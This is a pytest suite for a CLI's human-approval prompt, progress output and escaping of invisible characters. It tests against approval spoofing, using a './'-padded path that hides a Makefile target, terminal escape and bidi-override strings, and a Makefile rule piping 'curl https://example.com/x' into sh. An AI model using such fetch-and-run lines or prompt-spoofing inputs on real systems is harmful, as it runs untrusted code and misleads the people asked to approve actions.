"""``hermesos call`` with a person in the loop: approval asked on a real pseudo-terminal, progress and log messages.

Every test runs the real console script in a subprocess, with a policy file
whose ``ask`` list names the test tool's permission (``HERMESOS_POLICY``):
on a pseudo-terminal, answered yes, no and always; without one, refused
with how to approve, and approved with ``--approve``.
"""

from __future__ import annotations

import json
import os
import pty
import re
import select
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from hermes_core import PermissionDeniedError
from hermes_core.cli import _output as out

if TYPE_CHECKING:
    from conftest import Site

HERMES = Path(sys.executable).with_name("hermesos")
DENIED = out.EXIT_STATUSES["PERMISSION_DENIED"]
#: Seconds the terminal may stay silent before a test gives up on the command (a hang, not a slow machine).
SILENCE = 120

PEOPLE = """
from hermes_core import current_call


def save(args):
    return {"saved": args["path"]}


def purge(args):
    call = current_call()
    answers = [call.confirm_sync(args["question"]) for _ in range(args["times"])]
    return {"deleted": all(answers)}


def scan(args):
    call = current_call()
    call.log("info", f"scanning {args['count']} files")
    call.log("debug", "the first is f1")
    call.log("warning", "f3 is \\x1b[2Jodd")
    for done in range(1, args["count"] + 1):
        call.progress(done, args["count"], f"scanning f{done}")
    return {"scanned": args["count"]}


@hookimpl
def hermes_tools():
    path = s.object({"path": s.string()})
    question = s.object({"question": s.string(), "times": s.optional(s.integer(), default=1)})
    return [
        define_tool(name="unit.save", description="d", version="1.0.0", input=path, permissions=["unit:save"],
                    handler=save),
        define_tool(name="unit.purge", description="d", version="1.0.0", input=question, handler=purge),
        define_tool(name="unit.scan", description="d", version="1.0.0", input=s.object({"count": s.integer()}),
                    handler=scan),
        define_tool(name="unit.quiet", description="d", version="1.0.0", input=s.object({}), handler=lambda a: 1),
    ]
"""

SAVE = ["call", "unit.save", '{"path": "notes/todo.txt"}']


@pytest.fixture
def policy(site: Site) -> Path:
    """The test tools installed, and a policy file asking a person for unit:save (outside the file tools' root)."""
    site.install(site.plugin(PEOPLE))
    path = site.path / "policy.toml"
    path.write_text('ask = ["unit:save"]\n')
    return path


def _environment(site: Site, policy: Path, **env: str) -> dict[str, str]:
    environment = {k: v for k, v in os.environ.items() if not k.startswith(("HERMESOS_", "NO_COLOR", "TERM"))}
    environment.update(
        PYTHONPATH=str(site.path),
        HERMESOS_FS_ROOT=str(site.path / "fs-root"),
        HERMESOS_POLICY=str(policy),
        TERM="xterm",
        **env,
    )
    return environment


# What the command says while it waits, on a machine slow enough (hermes_core.cli._output.waiting): not
# what these tests are about. On a terminal, each frame of the live line and the erase that ends them.
_CLOCK_LINES = re.compile(r"^hermesos: [^\n]*\.\.\. \(\d+ s\)\n", re.MULTILINE)
_CLOCK_FRAMES = re.compile(r"(\r\x1b\[Khermesos: [^\r\n]*?\.\.\. \d+ s)+(\r\x1b\[K)?")


def script(site: Site, policy: Path, *argv: str, **env: str) -> subprocess.CompletedProcess[str]:
    """The command with no terminal: stdin empty, stdout and stderr pipes."""
    done = subprocess.run(
        [str(HERMES), *argv],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        env=_environment(site, policy, **env),
        check=False,
    )
    done.stderr = _CLOCK_LINES.sub("", done.stderr)
    return done


def on_a_terminal(site: Site, policy: Path, *argv: str, answers: tuple[bytes, ...] = ()) -> tuple[int, str]:
    """The command on a pseudo-terminal (stdin, stdout and stderr); each answer typed when a new prompt shows.

    Returns its exit status and everything the terminal showed, its line ends as ``\\n``.
    """
    main_fd, child_fd = pty.openpty()
    environment = _environment(site, policy)
    with subprocess.Popen(
        [str(HERMES), *argv], stdin=child_fd, stdout=child_fd, stderr=child_fd, env=environment
    ) as proc:
        os.close(child_fd)
        shown = b""
        typed = 0
        while True:
            ready, _, _ = select.select([main_fd], [], [], SILENCE)
            if not ready:
                proc.kill()
                pytest.fail(f"the command said nothing for {SILENCE} s; the terminal showed: {shown.decode()!r}")
            try:
                chunk = os.read(main_fd, 65536)
            except OSError:  # the terminal closes when the command exits
                break
            if not chunk:
                break
            shown += chunk
            if shown.count(b"Allow?") > typed and typed < len(answers):
                os.write(main_fd, answers[typed])
                typed += 1
        status = proc.wait()
    os.close(main_fd)
    assert typed == len(answers), f"{typed} of {len(answers)} answers asked for: {shown.decode()!r}"
    return status, _CLOCK_FRAMES.sub("", shown.decode()).replace("\r\n", "\n")


def reason(policy: Path) -> str:
    """What hermesos-policy says about an ask from *policy*."""
    return f'the policy "{policy.resolve()}" asks a person to approve it'


# -- on a terminal: the person answers ----------------------------------------------------------------


def test_yes_on_a_terminal_shows_the_tool_the_permission_its_reason_and_the_input_then_runs(
    site: Site, policy: Path
) -> None:
    status, shown = on_a_terminal(site, policy, *SAVE, answers=(b"y\n",))
    assert status == 0
    assert (
        "hermesos: \033[1munit.save\033[0m needs your approval\n"
        f"  permission: unit:save ({reason(policy)})\n"
        '  input: {"path": "notes/todo.txt"}\n'
        "\033[1mAllow? [y]es / [n]o / [a]lways: \033[0my\n"  # the answer, as the terminal echoes it
    ) in shown
    assert shown.endswith('{\n  "saved": "notes/todo.txt"\n}\n')


def test_no_on_a_terminal_declines_with_the_runtimes_error_and_its_exit_status(site: Site, policy: Path) -> None:
    status, shown = on_a_terminal(site, policy, *SAVE, answers=(b"n\n",))
    assert status == DENIED
    declined = PermissionDeniedError("unit.save", "unit:save", reason="declined")
    assert shown.endswith(f"\033[31mPERMISSION_DENIED\033[0m: {declined}\n")  # no hint: a person said no
    assert "saved" not in shown


def test_what_follows_no_is_the_declines_message(site: Site, policy: Path) -> None:
    status, shown = on_a_terminal(site, policy, *SAVE, answers=(b"no, write notes/done.txt instead\n",))
    assert status == DENIED
    declined = PermissionDeniedError("unit.save", "unit:save", reason="declined", detail="write notes/done.txt instead")
    assert shown.endswith(f"PERMISSION_DENIED\033[0m: {declined}\n")
    assert 'saying: "write notes/done.txt instead"' in shown


def test_always_approves_the_same_question_again_within_the_command(site: Site, policy: Path) -> None:
    purge = ["call", "unit.purge", '{"question": "Delete 3 files?", "times": 2}']
    status, shown = on_a_terminal(site, policy, *purge, answers=(b"a\n",))
    assert status == 0
    assert shown.count("Allow?") == 1  # asked once, approved twice
    assert "hermesos: \033[1munit.purge\033[0m asks: Delete 3 files?\n" in shown
    assert shown.endswith('{\n  "deleted": true\n}\n')
    status, shown = on_a_terminal(site, policy, *purge, answers=(b"y\n", b"yes\n"))
    assert (status, shown.count("Allow?")) == (0, 2)  # yes is this once: asked again
    assert shown.endswith('{\n  "deleted": true\n}\n')


def test_a_tools_question_answered_no_is_its_handlers_to_act_on(site: Site, policy: Path) -> None:
    status, shown = on_a_terminal(
        site, policy, "call", "unit.purge", '{"question": "Delete 3 files?"}', answers=(b"n\n",)
    )
    assert status == 0
    assert shown.endswith('{\n  "deleted": false\n}\n')


def test_an_answer_that_is_none_of_them_is_asked_again_and_the_end_of_input_declines(site: Site, policy: Path) -> None:
    status, shown = on_a_terminal(site, policy, *SAVE, answers=(b"maybe\n", b"y\n"))
    assert status == 0
    assert "Answer y to allow this call, n to decline it" in shown
    status, shown = on_a_terminal(site, policy, *SAVE, answers=(b"\x04",))  # Ctrl-D
    assert status == DENIED
    assert PermissionDeniedError("unit.save", "unit:save", reason="declined").message in shown


def test_the_prompt_works_within_a_time_limit(site: Site, policy: Path) -> None:
    # With --timeout, the approver waits on a worker thread: the answer is read there.
    status, shown = on_a_terminal(site, policy, *SAVE, "--timeout", "600", answers=(b"y\n",))
    assert status == 0
    assert shown.endswith('{\n  "saved": "notes/todo.txt"\n}\n')


def test_a_tools_text_reaches_the_terminal_with_its_control_characters_escaped(site: Site, policy: Path) -> None:
    purge = ["call", "unit.purge", json.dumps({"question": "Delete \x1b[2J\u202efiles?"})]
    status, shown = on_a_terminal(site, policy, *purge, answers=(b"y\n",))
    assert status == 0
    assert "asks: Delete \\x1b[2J\\u202efiles?\n" in shown
    assert "\x1b[2J" not in shown
    assert "\u202e" not in shown


def test_approve_on_a_terminal_asks_nobody(site: Site, policy: Path) -> None:
    status, shown = on_a_terminal(site, policy, *SAVE, "--approve")
    assert status == 0
    assert "Allow?" not in shown
    assert "hermesos: approved with --approve: unit.save (unit:save)\n" in shown


# -- what the person reads: the target in full and first, every invisible character escaped -----------------

#: The attack: a path whose normalised form, the file the tool writes, lies past what the prompt showed of the input.
HIDDEN = "notes/" + "./" * 300 + "Makefile"


@pytest.fixture
def fs_policy(site: Site) -> Path:
    """A policy asking a person for every fs:write (outside the file tools' root, which the site fixture made)."""
    path = site.path / "fs-policy.toml"
    path.write_text('ask = ["fs:write"]\n')
    return path


def write_call(path: str, content: str = "all:\n\tcurl https://example.com/x | sh\n") -> list[str]:
    return ["call", "fs.write", json.dumps({"path": path, "content": content}, ensure_ascii=False)]


def asked(shown: str) -> list[str]:
    """The lines of the request, from its first line to the prompt."""
    start = shown.index("hermesos: ")
    return shown[start : shown.index("Allow?", start)].splitlines()


def test_the_prompt_shows_the_target_first_and_whole_however_long_the_input(site: Site, fs_policy: Path) -> None:
    # The ordinary case: the target is the path, the input is shown whole.
    status, shown = on_a_terminal(site, fs_policy, *write_call("notes/todo.txt", "buy milk"), answers=(b"n\n",))
    assert status == DENIED
    assert asked(shown) == [
        "hermesos: \033[1mfs.write\033[0m needs your approval",
        "  target: \033[1mnotes/todo.txt\033[0m",
        f"  permission: fs:write ({reason(fs_policy)})",
        '  input: {"path": "notes/todo.txt", "content": "buy milk", "mode": "overwrite", "create_parents": true}',
        "\033[1m",
    ]
    # The attack: 600 characters of "./" before the name. The target is the file the tool would write,
    # in full, before anything else; the input is cut, saying by how much.
    status, shown = on_a_terminal(site, fs_policy, *write_call(HIDDEN), answers=(b"n\n",))
    assert status == DENIED
    lines = asked(shown)
    assert lines[1] == "  target: \033[1mnotes/Makefile\033[0m"
    whole = json.dumps(
        {
            "path": HIDDEN,
            "content": "all:\n\tcurl https://example.com/x | sh\n",
            "mode": "overwrite",
            "create_parents": True,
        },
        ensure_ascii=False,
    )
    assert lines[3] == f"  input: {whole[:500]}... ({len(whole) - 500:,} more characters not shown)"
    assert "Makefile" not in lines[3]  # what the old prompt showed, and all it showed
    assert not (site.path / "fs-root" / "notes").exists()


def test_approve_says_the_target_of_what_it_approved(site: Site, fs_policy: Path) -> None:
    done = script(site, fs_policy, *write_call(HIDDEN), "--approve")
    assert done.returncode == 0, done.stderr
    assert done.stderr == "hermesos: approved with --approve: fs.write (fs:write) on notes/Makefile\n"
    assert (site.path / "fs-root" / "notes" / "Makefile").exists()


#: A tool declared with @tool naming its target, as define_tool's do: the path under notes/, normalised.
FILING = """
from hermes_core import reject, tool


def under_notes(args):
    names = [name for name in args["path"].split("/") if name not in ("", ".")]
    if ".." in names:
        raise reject("path", "contains '..'")
    return "/".join(["notes", *names])


@tool(name="unit.file", version="1.0.0", permissions=["unit:save"], target=under_notes)
def file(path: str, copies: int = 1) -> dict[str, str]:
    \"\"\"File a note under notes/.\"\"\"
    return {"filed": path}


@hookimpl
def hermes_tools():
    return [file]
"""


def test_a_tool_declared_with_the_decorator_names_its_target_on_the_prompt(site: Site, policy: Path) -> None:
    site.install(site.plugin(FILING))
    status, shown = on_a_terminal(
        site, policy, "call", "unit.file", '{"path": "./todo//./list.txt"}', answers=(b"y\n",)
    )
    assert status == 0
    assert asked(shown) == [
        "hermesos: \033[1munit.file\033[0m needs your approval",
        "  target: \033[1mnotes/todo/list.txt\033[0m",
        f"  permission: unit:save ({reason(policy)})",
        '  input: {"path": "./todo//./list.txt", "copies": 1}',
        "\033[1m",
    ]
    assert shown.endswith('{\n  "filed": "./todo//./list.txt"\n}\n')
    done = script(site, policy, "call", "unit.file", '{"path": "a.txt"}', "--approve")
    assert (done.returncode, done.stderr) == (
        0,
        "hermesos: approved with --approve: unit.file (unit:save) on notes/a.txt\n",
    )
    # What the target refuses is refused before anyone is asked; the same tool's ordinary call above was asked.
    status, shown = on_a_terminal(site, policy, "call", "unit.file", '{"path": "../Makefile"}')
    assert status == out.EXIT_STATUSES["INPUT_INVALID"]
    assert "Allow?" not in shown
    assert "\"path\" contains '..'" in shown


def test_a_target_the_tool_refuses_is_refused_before_anyone_is_asked(site: Site, fs_policy: Path) -> None:
    status, shown = on_a_terminal(site, fs_policy, *write_call("notes/../Makefile"))
    assert status == out.EXIT_STATUSES["INPUT_INVALID"]
    assert "Allow?" not in shown
    assert "\"path\" contains '..'" in shown
    status, shown = on_a_terminal(site, fs_policy, *write_call("notes/Makefile"), answers=(b"n\n",))
    assert (status, shown.count("Allow?")) == (DENIED, 1)  # the same call with a path the tool takes: asked


#: One character of each kind that shows as nothing, or moves or hides text, and how the prompt writes it.
INVISIBLE = {
    "\x1b": "\\x1b",  # Cc: an escape sequence's start
    "\x85": "\\x85",  # Cc: next line (C1)
    "\u00ad": "\\xad",  # Cf: soft hyphen
    "\u200b": "\\u200b",  # Cf: zero-width space
    "\u200d": "\\u200d",  # Cf: zero-width joiner
    "\u202e": "\\u202e",  # Cf: right-to-left override
    "\u2067": "\\u2067",  # Cf: right-to-left isolate
    "\ufeff": "\\ufeff",  # Cf: zero-width no-break space
    "\U000e0041": "\\U000e0041",  # Cf: a tag character
    "\u2028": "\\u2028",  # Zl: line separator
    "\u2029": "\\u2029",  # Zp: paragraph separator
    "\u00a0": "\\xa0",  # Zs: no-break space
    "\u3000": "\\u3000",  # Zs: ideographic space
    "\ue000": "\\ue000",  # Co: private use
    "\u0378": "\\u0378",  # Cn: unassigned
    "\u3164": "\\u3164",  # Lo, but blank: Hangul filler
    "\u2800": "\\u2800",  # So, but blank: Braille pattern blank
    "\ufe0f": "\\ufe0f",  # Mn, but invisible: a variation selector
}


def test_every_invisible_character_in_the_prompt_is_escaped(site: Site, fs_policy: Path) -> None:
    name = "".join(f"a{char}" for char in INVISIBLE) + "b"
    status, shown = on_a_terminal(site, fs_policy, *write_call(f"notes/{name}", "x"), answers=(b"n\n",))
    assert status == DENIED
    lines = asked(shown)
    escaped = "".join(f"a{written}" for written in INVISIBLE.values()) + "b"
    # Not all ASCII: the target is shown again in ASCII, where no letter can pass for another.
    assert lines[1] == f"  target: \033[1mnotes/{escaped} (in ASCII: notes/{escaped})\033[0m"
    in_json = escaped.replace("\\x1b", "\\u001b")  # JSON writes a C0 character its own way
    assert f'"path": "notes/{in_json}"' in lines[3]
    unstyled = re.sub(r"\x1b\[\d*m", "", shown)  # bold, and back: the prompt's own style
    for char in INVISIBLE:
        assert char not in unstyled, repr(char)
    # Letters are letters: é and 日本 as they are, and in the target's ASCII form as escapes (a Cyrillic a too).
    status, shown = on_a_terminal(site, fs_policy, *write_call("notes/é 日本 c\u0430t", "x"), answers=(b"n\n",))
    lines = asked(shown)
    assert lines[1] == "  target: \033[1mnotes/é 日本 c\u0430t (in ASCII: notes/\\xe9 \\u65e5\\u672c c\\u0430t)\033[0m"
    assert '"path": "notes/é 日本 c\u0430t"' in lines[3]


ODD = r"a\x9b[2Jb\u202ec\u200bd\u2028e \u00e9 \u65e5"  # C1 CSI, an override, a zero-width space, a line separator

ODD_PLUGIN = f"""
from hermes_core import define_tool, hookimpl, reject, schema as s

ODD = "{ODD}"


def odd(args):
    if args.get("x") is not None:
        raise reject("x", "is refused: " + ODD)
    return {{"text": ODD}}


@hookimpl
def hermes_tools():
    field = s.optional(s.integer(description="f" + ODD))
    return [define_tool(name="unit.odd", description="d", version="1.0.0", input=s.object({{"x": field}}),
                        handler=odd)]


@hookimpl
def hermes_problems():
    return ["its server said: " + ODD]
"""


def test_what_a_tool_or_a_server_wrote_reaches_the_terminal_escaped_in_every_command(site: Site, policy: Path) -> None:
    site.install(ODD_PLUGIN)
    odd = ODD.encode().decode("unicode_escape")
    invisible = "\x9b\u202e\u200b\u2028"
    shown = {
        "call": script(site, policy, "call", "unit.odd"),
        "call --json": script(site, policy, "call", "unit.odd", '{"x": 1}', "--json"),
        "call, refused": script(site, policy, "call", "unit.odd", '{"x": 1}'),
        "check": script(site, policy, "check"),
        "tools show": script(site, policy, "tools", "show", "unit.odd"),
        "tools list": script(site, policy, "tools", "list"),
        "plugins list": script(site, policy, "plugins", "list"),
    }
    for command, done in shown.items():
        for char in invisible:
            assert char not in done.stdout + done.stderr, (command, char)
    # JSON is escaped as JSON writes it: the same value to any reader; letters stay letters.
    assert json.loads(shown["call"].stdout) == {"text": odd}
    assert '"text": "a\\u009b[2Jb\\u202ec\\u200bd\\u2028e é 日"' in shown["call"].stdout
    refused = json.loads(shown["call --json"].stderr)
    assert refused["issues"][0]["detail"] == f"is refused: {odd}"
    assert '"detail": "is refused: a\\u009b[2Jb\\u202ec\\u200bd\\u2028e é 日"' in shown["call --json"].stderr
    assert '"x" is refused: a\\x9b[2Jb\\u202ec\\u200bd\\u2028e é 日' in shown["call, refused"].stderr
    assert '"description": "fa\\u009b[2Jb\\u202ec\\u200bd\\u2028e é 日"' in shown["tools show"].stdout
    # Text, as printable writes it; a line separator does not end the line there.
    said = "its server said: a\\x9b[2Jb\\u202ec\\u200bd\\u2028e é 日"
    assert said in shown["check"].stdout
    assert said in shown["tools list"].stderr
    assert said in shown["plugins list"].stdout


# -- without a terminal: refused, unless --approve ------------------------------------------------------


def test_without_a_terminal_an_ask_is_refused_saying_how_to_approve(site: Site, policy: Path) -> None:
    done = script(site, policy, *SAVE)
    assert (done.returncode, done.stdout) == (DENIED, "")
    refused = PermissionDeniedError(
        "unit.save", "unit:save", reason="no_approver", detail=f'"unit:save": {reason(policy)}'
    )
    assert done.stderr == f"PERMISSION_DENIED: {refused}\n{out.APPROVE_HINT}\n"
    assert "--approve" in out.APPROVE_HINT
    as_json = script(site, policy, *SAVE, "--json")
    assert as_json.returncode == DENIED
    assert json.loads(as_json.stderr) == refused.to_dict()


def test_approve_without_a_terminal_runs_the_call_and_says_each_approval(site: Site, policy: Path) -> None:
    done = script(site, policy, *SAVE, "--approve")
    assert (done.returncode, json.loads(done.stdout)) == (0, {"saved": "notes/todo.txt"})
    assert done.stderr == "hermesos: approved with --approve: unit.save (unit:save)\n"
    purge = script(site, policy, "call", "unit.purge", '{"question": "Delete 3 files?", "times": 2}', "--approve")
    assert (purge.returncode, json.loads(purge.stdout)) == (0, {"deleted": True})
    assert purge.stderr == "hermesos: approved with --approve: unit.purge: Delete 3 files?\n" * 2


#: What ``call`` says of a tool's own question it answered no, for want of a terminal to ask it on.
UNASKED = (
    "hermesos: answered no, with no terminal to ask a person on: unit.purge: Delete 3 files? "
    "(run hermesos call on a terminal, stdin and stderr, to be asked, or pass --approve to approve every ask "
    "of this call)\n"
)


def test_without_a_terminal_a_tools_question_is_answered_no_saying_so_and_how_to_approve(
    site: Site, policy: Path
) -> None:
    purge = ["call", "unit.purge", '{"question": "Delete 3 files?"}']
    done = script(site, policy, *purge)
    # The call's outcome is the handler's: it acted on the no, and the call succeeded.
    assert (done.returncode, json.loads(done.stdout), done.stderr) == (0, {"deleted": False}, UNASKED)
    as_json = script(site, policy, *purge, "--json")
    assert (as_json.returncode, json.loads(as_json.stdout), as_json.stderr) == (0, {"deleted": False}, UNASKED)
    twice = script(site, policy, "call", "unit.purge", '{"question": "Delete 3 files?", "times": 2}')
    assert (twice.returncode, twice.stderr) == (0, UNASKED * 2)  # each ask, as --approve says each
    # The positive control: --approve answers the same question yes, saying so.
    approved = script(site, policy, *purge, "--approve")
    assert (approved.returncode, json.loads(approved.stdout)) == (0, {"deleted": True})
    assert approved.stderr == "hermesos: approved with --approve: unit.purge: Delete 3 files?\n"
    # A permission's ask without a terminal is still the runtime's no_approver refusal, as before.
    refused = script(site, policy, *SAVE)
    assert refused.returncode == DENIED
    assert refused.stderr.startswith("PERMISSION_DENIED: unit.save needs a person's approval")
    assert refused.stderr.endswith(f"\n{out.APPROVE_HINT}\n")


def test_the_help_names_approve(site: Site, policy: Path) -> None:
    done = script(site, policy, "call", "--help")
    assert "--approve" in done.stdout
    assert "refused elsewhere" in " ".join(done.stdout.split())


# -- progress and log messages ------------------------------------------------------------------------


def test_progress_is_a_bar_redrawn_in_place_on_a_terminal_and_cleared_at_the_end(site: Site, policy: Path) -> None:
    status, shown = on_a_terminal(site, policy, "call", "unit.scan", '{"count": 10}')
    assert status == 0
    # The first report and the one completing the total are never dropped; those between may be (50 ms apart).
    assert "\r\033[K[##" + "." * 22 + "] 1/10  10% scanning f1" in shown
    assert "\r\033[K[########################] 10/10 100% scanning f10\r\033[K{\n" in shown
    assert shown.endswith('{\n  "scanned": 10\n}\n')
    assert "unit.scan: info: scanning 10 files\n" in shown
    assert "unit.scan: \033[33mwarning\033[0m: f3 is \\x1b[2Jodd\n" in shown
    assert "progress:" not in shown


def test_progress_is_plain_lines_without_a_terminal_and_log_messages_are_lines(site: Site, policy: Path) -> None:
    done = script(site, policy, "call", "unit.scan", '{"count": 10}')
    assert (done.returncode, json.loads(done.stdout)) == (0, {"scanned": 10})
    lines = done.stderr.splitlines()
    assert lines[:2] == ["unit.scan: info: scanning 10 files", "unit.scan: warning: f3 is \\x1b[2Jodd"]
    progress = lines[2:]
    # At most one a second after the first, and always the one that completes the total.
    assert progress[0] == "progress: 1/10 scanning f1"
    assert progress[-1] == "progress: 10/10 scanning f10"
    assert all(re.fullmatch(r"progress: \d+/10 scanning f\d+", line) for line in progress)
    assert "\r" not in done.stderr
    assert (
        "unit.scan: debug: the first is f1"
        in script(site, policy, "call", "unit.scan", '{"count": 1}', "--debug").stderr
    )


def test_a_tool_that_reports_nothing_shows_nothing(site: Site, policy: Path) -> None:
    done = script(site, policy, "call", "unit.quiet")
    assert (done.returncode, done.stdout, done.stderr) == (0, "1\n", ""), done.stderr
    status, shown = on_a_terminal(site, policy, "call", "unit.quiet")
    assert (status, shown) == (0, "1\n")


# -- the pieces, in process ------------------------------------------------------------------------------


def test_progress_text_with_and_without_a_total() -> None:
    assert out.progress_text(3, 10, "scanning foo", bar=False) == "3/10 scanning foo"
    assert out.progress_text(3, 10, None, bar=True) == "[#######.................] 3/10  30%"
    assert out.progress_text(2.5, None, "reading", bar=True) == "2.5 reading"
    assert out.progress_text(1, 3, "a\nb\x1b", bar=False) == "1/3 a\\x0ab\\x1b"


def test_printable_escapes_what_would_control_a_terminal() -> None:
    assert out.printable("a\x1b[31mb\x07\x9b\u202e\tc") == "a\\x1b[31mb\\x07\\x9b\\u202e c"
    assert out.printable("one\ntwo\tthree", lines=True) == "one\ntwo\tthree"
    assert out.printable("é 日本 🙂") == "é 日本 🙂"


def test_printable_escapes_every_character_that_shows_as_nothing() -> None:
    for char, written in INVISIBLE.items():
        assert out.printable(f"a{char}b") == f"a{written}b"
        assert out.printable(f"a{char}b", lines=True) == f"a{written}b"
    assert out.printable("\ud800") == "\\ud800"  # a lone surrogate
    assert out.printable("a\nb") == "a\\x0ab"
    assert out.printable("a b~") == "a b~"  # the ASCII space, and printable ASCII, as they are
    assert out.printable("e\u0301 \u0645\u064e") == "e\u0301 \u0645\u064e"  # combining marks that show are letters


def test_json_text_escapes_the_same_characters_as_json_does_and_reads_back_the_same() -> None:
    for char in INVISIBLE:
        data = {"k": f"a{char}b é"}
        text = out.json_text(data, indent=None)
        assert char not in text
        assert json.loads(text) == data
    assert out.json_text({"k": "\u202e\U000e0041"}, indent=None) == '{"k": "\\u202e\\udb40\\udc41"}'
